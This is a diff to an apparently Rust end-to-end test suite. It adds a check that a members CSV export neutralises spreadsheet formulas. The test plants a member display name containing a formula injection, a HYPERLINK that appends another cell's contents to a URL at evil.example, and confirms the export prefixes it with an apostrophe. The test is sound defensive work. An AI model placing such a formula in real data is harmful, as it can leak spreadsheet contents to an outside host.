@@ -40,6 +40,8 @@ async fn a_person_offboarded_and_undone_against_a_server_changed_behind_the_wind
 #[ignore = "needs a display: run scripts/e2e.sh"]
 async fn members_exported_through_the_native_save_dialog() -> Result<()> {
     let emu = start(EmulatorConfig { port: 0, scale: Some(1), ..Default::default() }).await?;
+    // Any member can set their own display name: one sets a live formula.
+    control(&emu, "users/rename", json!({ "email": "member@acme-ml.example", "name": FORMULA })).await?;
     let opener = tempfile::tempdir()?;
     let (path, opened) = stand_in_opener(opener.path())?;
     let app = App::launch(&[("PATH", &path)]).await?;
@@ -321,6 +323,9 @@ async fn export_members(app: &App, emu: &RunningEmulator, opened: &std::path::Pa
     Ok(())
 }
 
+/// A display name a spreadsheet would run as a formula.
+const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&C2,\"Acme Member\")";
+
 /// The title of the save dialog of a members export.
 const SAVE_DIALOG: &str = "Save the members export";
 
@@ -339,6 +344,8 @@ fn check_saved_csv(file: &std::path::Path, csv: &str, shown: &str) -> Result<()>
     let rows = records.len().saturating_sub(1);
     let said = format!("Saved {rows} row");
     ensure!(shown.contains(&said), "the window says {said:?}: {shown}");
+    let neutralised = format!("'{FORMULA}");
+    ensure!(records.iter().any(|r| r.contains(&neutralised)), "the formula name is kept, neutralised: {csv}");
     const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
     for (i, record) in records.iter().enumerate() {
         for cell in record {
